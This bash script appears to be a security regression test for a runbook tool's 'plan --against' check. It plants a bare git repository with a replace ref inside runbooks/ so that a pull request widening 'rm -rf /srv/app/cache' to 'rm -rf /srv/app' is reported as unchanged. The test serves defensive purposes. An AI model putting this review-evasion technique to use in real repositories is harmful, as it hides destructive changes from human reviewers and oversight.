#!/usr/bin/env bash
# adv15c F8 (promise 2, critical): `plan --against REV` runs `git -C <runbook's folder>`, so git
# discovers whatever repository that folder is. A pull request that commits the files of a
# bare repository into runbooks/ (HEAD, config, objects/, refs/) makes runbooks/ itself that
# repository: REV is then resolved there, and a replace ref (refs/replace/<BASE>) points the
# base commit at a tree holding the NEW runbook. `plan --against BASE` says "no change" (exit
# 0) and examples/ci/review-comment.sh (the base's copy) writes "No runbook's plan changed."
# with changed=no, while `rm -rf /srv/app/cache` became `rm -rf /srv/app`.
set -u
R=$1
SCRIPT=$(cd "$(dirname "$0")/../../.." && pwd)/examples/ci/review-comment.sh
T=$(mktemp -d /tmp/adv15c-f8.XXXXXX); cd "$T"; git init -q -b main repo; cd repo
g() { git -c user.email=a@b -c user.name=a "$@"; }
mkdir -p runbooks
printf '[runbook]\nname = "clean"\ntitle = "Clean the cache"\nestimate = "5s"\n\n[steps.clean]\nrun = "rm -rf /srv/app/cache"\n' > runbooks/clean.toml
git add . && g commit -qm base
BASE=$(git rev-parse HEAD)
git checkout -qb pr
# the real change
sed -i 's#rm -rf /srv/app/cache#rm -rf /srv/app#' runbooks/clean.toml
# the planted repository: runbooks/ is a bare repository whose BASE is replaced by a commit
# holding the new runbook (objects borrowed from the real repository through alternates)
mkdir -p runbooks/objects/info runbooks/refs/replace runbooks/refs/heads
echo '../../.git/objects' > runbooks/objects/info/alternates
printf 'ref: refs/heads/main\n' > runbooks/HEAD
printf '[core]\n\trepositoryformatversion = 0\n\tbare = true\n' > runbooks/config
B=$(GIT_OBJECT_DIRECTORY=runbooks/objects git hash-object -w runbooks/clean.toml)
TREE=$(printf '100644 blob %s\tclean.toml\n' "$B" | GIT_OBJECT_DIRECTORY=runbooks/objects git mktree)
C=$(GIT_OBJECT_DIRECTORY=runbooks/objects GIT_ALTERNATE_OBJECT_DIRECTORIES=.git/objects g commit-tree "$TREE" -m x)
echo "$C" > "runbooks/refs/replace/$BASE"; echo "$C" > runbooks/refs/heads/main
git add -A && g commit -qm "clean: tidy"
git diff --stat main HEAD -- runbooks/clean.toml
fail=0
out=$("$R" plan runbooks/clean.toml --against "$BASE"); st=$?
echo "$out"; echo "plan --against exit $st"
[ "$st" -eq 0 ] && { echo "BREAK: plan --against says no change for a changed runbook"; fail=1; }
RUNBOOK=$R bash "$SCRIPT" main "$T/out"; echo "review-comment.sh exit $?, changed=$(cat "$T/out/changed")"
grep -q "No runbook's plan changed" "$T/out/comment.md" && { echo "BREAK: the PR comment says: No runbook's plan changed."; fail=1; }
exit $fail
